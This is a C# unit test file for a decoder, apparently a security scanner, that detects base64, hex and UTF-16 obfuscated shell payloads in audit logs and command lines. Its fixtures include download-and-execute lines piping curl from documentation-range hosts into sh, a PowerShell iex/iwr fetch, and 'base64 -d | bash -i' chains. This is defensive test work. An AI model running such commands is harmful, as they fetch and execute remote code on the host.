using System.Collections.Generic;
using System.Linq;
using System.Text;
using System.Threading.Tasks;
using B64Hunt.Decoding;
using Xunit;
using static B64Hunt.Tests.Decoding.Payloads;

namespace B64Hunt.Tests.Decoding
{
    /// <summary>Log shapes, options, and forms beyond the basic list.</summary>
    public class DecoderExtraTests
    {
        [Fact]
        public void AuomsRecordWithUnescapedInnerQuotes()
        {
            string encoded = B64(Command);
            string record = "type=AUOMS_EXECVE audit(1652292621.986:84138): success=yes exit=0 ppid=1340 pid=17790 comm=\"bash\" cmdline=\"bash -c \"{echo," + encoded + "}|{base64,-d}|{bash,-i}\"\" redactors=";
            var payload = Single(record);
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(encoded, payload.EncodedText);
        }

        [Fact]
        public void QuotedPayloadWithNewlinesInside()
        {
            string script = string.Concat(Enumerable.Range(0, 6).Select(i => $"curl -s http://203.0.113.{i}/p{i}.sh | sh\n"));
            string encoded = B64(script);
            string wrapped = string.Join("\n", Enumerable.Range(0, (encoded.Length + 63) / 64)
                .Select(i => encoded.Substring(i * 64, System.Math.Min(64, encoded.Length - i * 64))));
            var payload = Single("echo \"" + wrapped + "\" | base64 -d | sh");
            Assert.Equal(script.TrimEnd('\n'), payload.DecodedText.TrimEnd('\n'));
            Assert.Equal(wrapped, payload.EncodedText);
        }

        [Fact]
        public void ShortPayloadNeedsLowerMinPayloadLength()
        {
            // Not handed to the decoder as a literal (written to a file first): the scanner's length bar applies.
            const string line = "echo aWQ= > /tmp/.p; base64 -d /tmp/.p | sh";
            Assert.Empty(new PayloadDecoder().Decode(line));
            var payload = Single(line, new PayloadDecoder(new DecoderOptions { MinPayloadLength = 4 }));
            Assert.Equal("id", payload.DecodedText);
        }

        [Fact]
        public void ShortUnpaddedPayloadWithDecoder()
        {
            // "echo hi" is 10 symbols without padding: a whole token, canonically encoded, next to base64 -d.
            var payload = Single("echo ZWNobyBoaQ | base64 -d | sh");
            Assert.Equal("echo hi", payload.DecodedText);
        }

        [Fact]
        public void PwshEncodedCommandUtf16()
        {
            string encoded = System.Convert.ToBase64String(Encoding.Unicode.GetBytes("iex (iwr http://203.0.113.5/a.ps1)"));
            var payload = Single("pwsh -NoProfile -EncodedCommand " + encoded);
            Assert.Equal("iex (iwr http://203.0.113.5/a.ps1)", payload.DecodedText);
            Assert.Equal(new[] { "base64", "utf16le" }, payload.Chain);
            Assert.False(payload.IsBinary);
        }

        [Fact]
        public void JwtIsNotEmitted()
        {
            string header = UrlSafe(B64("{\"alg\":\"HS256\",\"typ\":\"JWT\"}")).TrimEnd('=');
            string claims = UrlSafe(B64("{\"sub\":\"1234567890\",\"name\":\"John Doe\",\"iat\":1516239022}")).TrimEnd('=');
            string line = "curl -H \"Authorization: Bearer " + header + "." + claims + ".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c\" https://api.example.com/v1/me";
            Assert.Empty(new PayloadDecoder().Decode(line));
        }

        [Fact]
        public void DecoderIsThreadSafe()
        {
            var decoder = new PayloadDecoder();
            var lines = Enumerable.Range(0, 200).Select(i => "echo " + B64(Gzip(Utf8($"curl http://203.0.113.{i % 250}/{i}.sh | sh"))) + " | base64 -d | gunzip | sh").ToArray();
            var results = new string[lines.Length];
            Parallel.For(0, lines.Length, i => results[i] = decoder.Decode(lines[i]).Single().DecodedText);
            for (int i = 0; i < lines.Length; i++) Assert.Equal($"curl http://203.0.113.{i % 250}/{i}.sh | sh", results[i]);
        }

        [Fact]
        public void SamePayloadTwiceInALineIsReturnedOnce()
        {
            string encoded = B64(Command);
            var results = new PayloadDecoder().Decode("echo " + encoded + " | base64 -d > /tmp/a; echo " + encoded + " | base64 -d | sh");
            Assert.Single(results);
        }

        [Fact]
        public void PythonHexEscapesInsideExec()
        {
            var payload = Single("python3 -c \"exec('" + HexEscapes("import os;os.system('id')") + "')\"");
            Assert.Equal("import os;os.system('id')", payload.DecodedText);
            Assert.Equal(new[] { "hex" }, payload.Chain);
        }

        [Fact]
        public void PerlPackHex()
        {
            var payload = Single("perl -e 'system(pack(\"H*\",\"" + Hex(Command) + "\"))'");
            Assert.Equal(Command, payload.DecodedText);
            Assert.Equal(new[] { "hex" }, payload.Chain);
        }
    }
}
